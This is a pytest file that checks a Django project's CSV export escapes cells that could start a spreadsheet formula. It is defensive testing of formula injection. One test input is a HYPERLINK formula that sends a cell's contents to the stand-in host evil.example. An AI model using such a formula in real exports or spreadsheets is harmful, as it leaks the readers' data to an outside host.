"""CSV exports cannot carry a formula into the reader's spreadsheet (issue 14, finding 7)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.utils.translation import gettext_lazy

from weerstand.core import spreadsheets
from weerstand.core.spreadsheets import neutralise

SRC = Path(spreadsheets.__file__).resolve().parent.parent


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1;"klik")',
            '\'=HYPERLINK("https://evil.example/?"&A1;"klik")',
        ),
        ("@SUM(1)", "'@SUM(1)"),
        ("+31 70 123 4567", "'+31 70 123 4567"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # a figure that arrives as text is text
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Eenheid Den Haag", "Eenheid Den Haag"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
    ],
)
def test_text_that_could_start_a_formula_is_quoted(cell: Any, written: str) -> None:
    assert neutralise(cell) == written


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-12.50"), 0, 36, True])
def test_typed_numbers_stay_numbers(number: Any) -> None:
    assert neutralise(number) is number


def test_lazy_text_and_other_values_are_neutralised_as_text() -> None:
    assert neutralise(gettext_lazy("=1+1")) == "'=1+1"
    assert neutralise(date(2026, 1, 2)) == "2026-01-02"


def test_the_writer_writes_what_a_spreadsheet_reads_as_text() -> None:
    buf = io.StringIO()
    w = spreadsheets.writer(buf)
    w.writerow(["@SUM(1)", "=1;2", -3, "eenheid"])
    w.writerows([["-3"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert rows == [["'@SUM(1)", "'=1;2", "-3", "eenheid"], ["'-3"]]


def test_every_csv_export_writes_through_the_shared_writer() -> None:
    """A new export that calls the csv module itself would skip the neutralising."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path == Path(spreadsheets.__file__).resolve() or "tests" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|^\s*from csv import", text, re.MULTILINE):
            offenders.append(str(path.relative_to(SRC)))
    assert not offenders
